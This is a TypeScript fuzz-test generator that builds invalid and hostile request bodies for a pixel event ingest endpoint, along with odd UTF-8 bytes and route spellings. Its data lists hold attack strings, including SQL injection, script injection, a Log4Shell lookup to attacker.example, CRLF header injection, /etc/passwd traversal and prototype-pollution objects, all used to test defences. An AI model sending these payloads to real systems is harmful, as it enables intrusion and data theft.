// Generated hostile input: a seeded PRNG (every run sends the same cases), invalid bodies for the pixel endpoint,
// texts that have broken software before, wrong-typed values for any field, invalid UTF-8 and odd path spellings.

type Json = Record<string, unknown>;

/** mulberry32: a small seeded PRNG, so every run posts the same cases. */
export function prng(seed: number) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return {
    next,
    int: (n: number) => Math.floor(next() * n),
    pick: <T>(list: readonly T[]): T => list[Math.floor(next() * list.length)],
  };
}
export type Rng = ReturnType<typeof prng>;

/** Deep nesting is spliced into the JSON text (JSON.stringify would recurse as deep). */
export const DEEP = "\u0001deep\u0001";
export const deepJson = (rng: Rng) => {
  const depth = 1000 + rng.int(9_000);
  return rng.next() < 0.5
    ? "[".repeat(depth) + "]".repeat(depth)
    : '{"a":'.repeat(depth) + "1" + "}".repeat(depth);
};

/** JSON text of a value, with every DEEP placeholder replaced by deeply nested JSON. */
export function toJson(value: unknown, rng: Rng): string {
  let text = JSON.stringify(value);
  while (text.includes(JSON.stringify(DEEP)))
    text = text.replace(JSON.stringify(DEEP), deepJson(rng));
  return text;
}

/** An own property, even for "__proto__" (an assignment would set the prototype instead). */
function setOwn(obj: Json, key: string, value: unknown) {
  Object.defineProperty(obj, key, {
    value,
    enumerable: true,
    writable: true,
    configurable: true,
  });
}

const huge = (n: number) => "x".repeat(n);
/** A fresh copy, so no case changes a value another case uses ("__proto__" stays an own key). */
const jsonClone = <T>(value: T): T => JSON.parse(JSON.stringify(value)) as T;
const hex64 = "ab".repeat(32);
const protoObject = (inner: unknown) =>
  JSON.parse(`{"__proto__": ${JSON.stringify(inner)}}`);
const WRONG_SHAPES = [
  null,
  true,
  0,
  -1,
  "",
  "x",
  [],
  {},
  [{}],
  DEEP,
  "NaN",
  "Infinity",
  huge(5000),
];

// For each path, values that are wrong for that field whatever else the body holds (so every case is invalid by
// construction: no case can be accepted by luck).
const INVALID: Record<string, unknown[]> = {
  v: [2, 0, "1", 1.5, -1, 1e308, "NaN", null, [], {}, true],
  kind: ["evnt", "", "EVENT", "consent", "event\u0000", 1, null, [], {}],
  shop: [
    "evil.example.com",
    "ѕhop.myshopify.com",
    "SHOP.myshopify.com",
    "shop.myshopify.com.evil.com",
    `${huge(300)}.myshopify.com`,
    "",
    42,
    null,
    [],
    "other-shop.myshopify.com",
  ],
  key: [
    "short",
    "",
    "key with spaces",
    "ключ-ключ-ключ",
    huge(300),
    12345678,
    null,
    [],
    {},
    "wrong-key-0123456789",
  ],
  event: [...WRONG_SHAPES],
  "event.event_name": [
    "purchase",
    "Lead",
    "",
    "PageView\u0000",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    1,
    null,
    ["PageView"],
    {},
  ],
  "event.event_id": [
    "",
    huge(129),
    "id with space",
    "<script>alert(1)</script>",
    "ид-события",
    "../../etc/passwd",
    "😀",
    123,
    null,
    [],
    {},
  ],
  "event.event_time": [
    Date.now(),
    "1764000000",
    -1,
    0,
    1_764_000_000.5,
    "NaN",
    "Infinity",
    "-Infinity",
    1e308,
    null,
    [1_764_000_000],
    {},
  ],
  "event.event_source_url": [
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ftp://x.example/",
    "//evil.example/",
    "not a url",
    "http://",
    "",
    `https://x.example/${huge(3000)}`,
    "https://x.example/\u0000",
    42,
    null,
    [],
    {},
  ],
  "event.referrer_url": [
    "javascript:alert(1)",
    "file:///etc/passwd",
    `https://x.example/${huge(3000)}`,
    "https://x.example/\ud800",
    "",
    1,
    null,
    {},
  ],
  "event.fbp": [
    "fb.1.abc.123",
    "FB.1.1764000000000.1",
    "fb.1.1764000000000.12a",
    "fb.1.1764000000000",
    "",
    "NaN",
    1,
    null,
    {},
  ],
  "event.fbc": [
    "fb.1.1764000000000.",
    "fb.1.1764000000000.a b",
    "fb.1.1764000000000.\u0000",
    "fbclid",
    `fb.1.1764000000000.${huge(600)}`,
    1,
    null,
    [],
  ],
  "event.client_id": ["", huge(200), "id\u0007", 1, null, {}],
  "event.consent": [
    ...WRONG_SHAPES,
    protoObject({ marketingAllowed: true }),
    JSON.parse('{"constructor": {"prototype": {"marketingAllowed": true}}}'),
    { marketingAllowed: "true" },
    { marketingAllowed: 1 },
  ],
  "event.consent.marketingAllowed": [
    "true",
    "false",
    1,
    0,
    null,
    [],
    {},
    "NaN",
  ],
  "event.checkout_token": [
    "",
    huge(200),
    "tok\u0000en",
    "tok\ud83den",
    5,
    null,
    {},
    [],
  ],
  "event.order_id": [
    "abc",
    "gid://shopify/Order/abc",
    "gid://evil/Order/1",
    "1".repeat(40),
    "-5",
    -5,
    5,
    null,
    {},
  ],
  "event.custom_data": [[], "x", 5, null, true, DEEP],
  "event.custom_data.value": [
    "NaN",
    "Infinity",
    "-Infinity",
    "12.5",
    -1,
    1e10,
    1e308,
    null,
    [],
    {},
    true,
  ],
  "event.custom_data.currency": [
    "eur",
    "EURO",
    "",
    "€€€",
    "E\u0000R",
    978,
    null,
    [],
  ],
  "event.custom_data.content_ids": [
    "44556677001",
    [1, 2],
    [""],
    Array(201).fill("x"),
    [{}],
    [null],
    [huge(201)],
    [DEEP],
    {},
  ],
  "event.custom_data.contents": [
    {},
    "x",
    [{ id: "a", quantity: 0 }],
    [{ id: "a", quantity: 1.5 }],
    [{ id: "a", quantity: "1" }],
    [{ quantity: 1 }],
    [{ id: "a", quantity: 1, item_price: -1 }],
    [{ id: "a", quantity: 1_000_000 }],
    [[]],
    [protoObject({ id: "a", quantity: 1 })],
    [DEEP],
  ],
  "event.custom_data.content_type": ["products", "", "PRODUCT", 1, null],
  "event.custom_data.num_items": [-1, 1.5, "3", 1e7, null],
  "event.custom_data.search_string": [huge(501), "a\u0000b", 5, null],
  "event.user_data": [[], "x", 1, null, DEEP],
  "event.user_data.em": [
    "shopper@example.com",
    ["shopper@example.com"],
    ["a".repeat(63)],
    ["a".repeat(65)],
    ["g".repeat(64)],
    Array(6).fill(hex64),
    [123],
    [null],
    [hex64 + "\u0000"],
  ],
  "event.user_data.ph": [
    ["+33612345678"],
    ["33612345678"],
    hex64,
    [hex64.slice(1)],
  ],
  "event.user_data.external_id": [["customer-7001"], [DEEP]],
};
const REQUIRED = [
  "v",
  "kind",
  "shop",
  "key",
  "event",
  "event.event_name",
  "event.event_id",
  "event.event_time",
  "event.event_source_url",
  "event.consent",
  "event.consent.marketingAllowed",
];
const EXTRA_ENVELOPE_KEYS = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "extra",
  "ключ",
  "\u0000",
  huge(500),
];

function setPath(body: Json, path: string, value: unknown) {
  const parts = path.split(".");
  let obj: Json = body;
  for (const p of parts.slice(0, -1)) {
    const next = Object.prototype.hasOwnProperty.call(obj, p)
      ? obj[p]
      : undefined;
    if (!next || typeof next !== "object" || Array.isArray(next))
      setOwn(obj, p, {});
    obj = obj[p] as Json;
  }
  setOwn(obj, parts.at(-1)!, value);
}
function dropPath(body: Json, path: string) {
  const parts = path.split(".");
  let obj: unknown = body;
  for (const p of parts.slice(0, -1))
    obj = obj && typeof obj === "object" ? (obj as Json)[p] : undefined;
  if (obj && typeof obj === "object") delete (obj as Json)[parts.at(-1)!];
}

/** Bodies for POST /ingest, each invalid by construction (a wrong value, a missing field, not JSON at all). */
export function hostileIngestBodies(
  valid: Json,
  seed: number,
  count = 320,
): { name: string; text: string }[] {
  const rng = prng(seed);
  const paths = Object.keys(INVALID);
  const out: { name: string; text: string }[] = [];
  for (let i = 0; i < count; i++) {
    const body = JSON.parse(JSON.stringify(valid)) as Json;
    const steps: string[] = [];
    const n = 1 + rng.int(3);
    for (let m = 0; m < n; m++) {
      const roll = rng.next();
      if (roll < 0.2) {
        const path = rng.pick(REQUIRED);
        dropPath(body, path);
        steps.push(`drop ${path}`);
      } else if (roll < 0.3) {
        const key = rng.pick(EXTRA_ENVELOPE_KEYS);
        setOwn(
          body,
          key,
          jsonClone(
            rng.pick([
              1,
              "x",
              { polluted: true },
              { marketingAllowed: true },
              DEEP,
            ]),
          ),
        );
        steps.push(`envelope key ${JSON.stringify(key.slice(0, 12))}`);
      } else {
        const path = rng.pick(paths);
        const value = jsonClone(rng.pick(INVALID[path]));
        setPath(body, path, value);
        steps.push(`${path} = ${JSON.stringify(value)?.slice(0, 24)}`);
      }
    }
    out.push({ name: `#${i} ${steps.join(", ")}`, text: toJson(body, rng) });
  }
  // Not JSON at all, or not an object.
  const validText = JSON.stringify(valid);
  for (let i = 0; i < 12; i++) {
    out.push({
      name: `truncated JSON #${i}`,
      text: validText.slice(0, 1 + rng.int(validText.length - 1)),
    });
  }
  for (let i = 0; i < 8; i++) {
    const chars = Array.from({ length: 1 + rng.int(400) }, () =>
      String.fromCharCode(rng.int(0xffff)),
    );
    out.push({ name: `random text #${i}`, text: chars.join("") });
  }
  for (const [name, text] of [
    ["trailing garbage", `${validText}}x`],
    ["BOM", `\ufeff${validText}`],
    ["NaN", "NaN"],
    ["Infinity", "Infinity"],
    ["undefined", "undefined"],
    ["single quotes", validText.replace(/"/g, "'")],
    ["a string", '"event"'],
    ["a number", "1e999"],
    ["true", "true"],
    ["xml", "<event><name>PageView</name></event>"],
    ["form", "v=1&kind=event&shop=x.myshopify.com"],
    ["two objects", `${validText}${validText}`],
  ] as const) {
    out.push({ name, text });
  }
  return out;
}

// ------------------------------------------------------------------------------------------ any endpoint

/** Texts a shopper can type (or a client send) that have broken software before. */
export const HOSTILE_TEXTS: readonly string[] = [
  "\u0000",
  "nul\u0000in the middle",
  "\ud800",
  "\udc00",
  "lone \ud83d high surrogate",
  "\udfff\ud800 reversed pair",
  "\u0001\u0002\u0007\b\u000b\f\u001b[31mred\u001b[0m\u007f",
  "line\r\nX-Injected: header\r\n\r\n",
  "x".repeat(10_000),
  "é".repeat(10_000),
  "😀".repeat(5_000),
  "\u202eevil.exe\u202c",
  "\u200f\u200e\u061c RTL marks",
  "مرحبا بالعالم",
  "שלום עולם",
  "👩‍👩‍👧‍👦🏳️‍🌈 ZWJ emoji",
  "e\u0301\u0301\u0301\u0301 combining",
  "\ufeffbyte order mark",
  "\u2028\u2029 line separators",
  "\uffff\ufffe noncharacters",
  "' OR 1=1 --",
  '"; DROP TABLE "OutboxEvent"; --',
  "<script>alert(1)</script>",
  "${jndi:ldap://attacker.example/a}",
  "{{7*7}}",
  "%00%0d%0a%ff",
  "__proto__",
  "",
  "   ",
  "ＡＢＣ＠ｅｘａｍｐｌｅ．ｃｏｍ",
  "İSTANBUL ǅ ß ﬁ",
];

/** Values of every JSON type (and deeply nested), to put where a field has another type. */
const ANY_TYPE: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  2 ** 64,
  1e308,
  "",
  "x",
  "12.50",
  [],
  [null],
  {},
  { a: 1 },
  DEEP,
];

/** A value of another JSON type than `current`. */
export function wrongValue(rng: Rng, current: unknown): unknown {
  const kind = (v: unknown) =>
    v === null ? "null" : Array.isArray(v) ? "array" : typeof v;
  for (;;) {
    const v = rng.pick(ANY_TYPE);
    if (v === DEEP || kind(v) !== kind(current)) return jsonClone(v);
  }
}

export type FieldPath = (string | number)[];

/** Every field of a JSON value, nested ones included, as paths of keys and indexes. */
export function fieldPaths(
  value: unknown,
  prefix: FieldPath = [],
): FieldPath[] {
  if (value === null || typeof value !== "object") return [];
  const entries: [string | number, unknown][] = Array.isArray(value)
    ? value.map((v, i) => [i, v])
    : Object.entries(value);
  return entries.flatMap(([k, v]) => [
    [...prefix, k],
    ...fieldPaths(v, [...prefix, k]),
  ]);
}

export function getAt(root: unknown, path: FieldPath): unknown {
  return path.reduce<unknown>(
    (v, k) =>
      v !== null && typeof v === "object"
        ? (v as Record<string, unknown>)[k]
        : undefined,
    root,
  );
}

/** Sets an existing field (the path must exist up to its parent). */
export function setAt(root: unknown, path: FieldPath, value: unknown): void {
  const parent = getAt(root, path.slice(0, -1)) as Record<
    string | number,
    unknown
  >;
  parent[path.at(-1)!] = value;
}

const INVALID_UTF8: readonly number[][] = [
  [0xff],
  [0xfe, 0xff],
  [0xc0, 0x80],
  [0xed, 0xa0, 0x80],
  [0xc3],
  [0x80, 0x80],
  [0xf8, 0x88, 0x80, 0x80, 0x80],
  [0xf4, 0x90, 0x80, 0x80],
];

/** The JSON text with invalid UTF-8 byte sequences inside some of its strings (still valid JSON syntax). */
export function withInvalidUtf8(json: string, rng: Rng): Buffer {
  const bytes = Buffer.from(json, "utf8");
  const starts: number[] = [];
  for (let i = 1; i < bytes.length; i++)
    if (bytes[i - 1] === 0x3a && bytes[i] === 0x22) starts.push(i + 1); // after :"
  const picked = new Set(
    Array.from({ length: 1 + rng.int(3) }, () => rng.pick(starts)),
  );
  const parts: Buffer[] = [];
  let from = 0;
  for (const at of [...picked].sort((a, b) => a - b)) {
    parts.push(bytes.subarray(from, at), Buffer.from(rng.pick(INVALID_UTF8)));
    from = at;
  }
  parts.push(bytes.subarray(from));
  return Buffer.concat(parts);
}

/** Other spellings of a route path that a router may still match: case, slashes, encoding, dot segments, queries. */
export function pathSpellings(path: string, rng: Rng): string[] {
  const i = 1 + rng.int(path.length - 1);
  const encoded =
    path.slice(0, i) +
    path.slice(i).replace(/[a-z_]/, (c) => `%${c.charCodeAt(0).toString(16)}`);
  return [
    `${path}/`,
    path.toUpperCase(),
    path.replace(/[a-z]/g, (c) => (rng.next() < 0.5 ? c.toUpperCase() : c)),
    `/${path}`,
    path.replace(/\//g, "//"),
    encoded,
    path.replace(/\//g, "%2F").replace(/^%2F/, "/"),
    path.replace(/^\/(\w+)\//, "/$1/./"),
    `${path}?`,
    `${path}?shop=evil.example&hmac=00&x=%00%ff`,
    `${path}/?a=${"b".repeat(2000)}`,
    `${path}#fragment`,
  ];
}
